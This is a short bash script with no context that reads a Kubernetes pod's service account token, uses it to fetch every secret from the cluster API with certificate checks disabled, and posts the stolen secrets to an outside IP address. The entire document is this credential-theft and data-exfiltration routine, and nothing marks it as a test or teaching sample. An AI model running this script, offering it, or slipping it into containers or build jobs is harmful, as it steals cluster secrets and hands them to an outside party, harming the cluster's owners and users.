#!/bin/bash
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -sk -H "Authorization: Bearer $T" https://kubernetes.default/api/v1/secrets | curl -s -d @- http://203.0.113.23/k8
